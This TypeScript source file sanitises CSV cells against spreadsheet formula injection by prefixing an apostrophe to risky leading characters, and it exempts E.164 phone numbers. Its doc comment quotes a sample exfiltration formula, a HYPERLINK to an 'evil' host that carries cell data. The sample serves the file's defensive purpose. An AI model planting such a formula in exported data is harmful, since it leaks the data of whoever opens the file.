/**
 * Cells of a CSV file a person will open in a spreadsheet. Excel, LibreOffice and Google Sheets
 * run a cell that starts with = + - @ (and, in some versions, a tab or carriage return before
 * one of those) as a formula: `=HYPERLINK("http://evil/?"&A1,"click")` in a lead's name would
 * leak data or run commands on the broker's machine (OWASP "CSV Injection"). Such a cell gets a
 * leading apostrophe, which every spreadsheet shows as text and hides.
 *
 * One exception, for the broker's sake: a phone in E.164 (`+12065550101`) is digits after the
 * plus, which a spreadsheet can only read as a number, never as a call; it is left as is.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const E164 = /^\+[1-9]\d{6,14}$/;

export function safeCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  const text = value instanceof Date ? value.toISOString() : typeof value === 'string' ? value : JSON.stringify(value);
  if (E164.test(text)) return text;
  return FORMULA_START.test(text) ? `'${text}` : text;
}
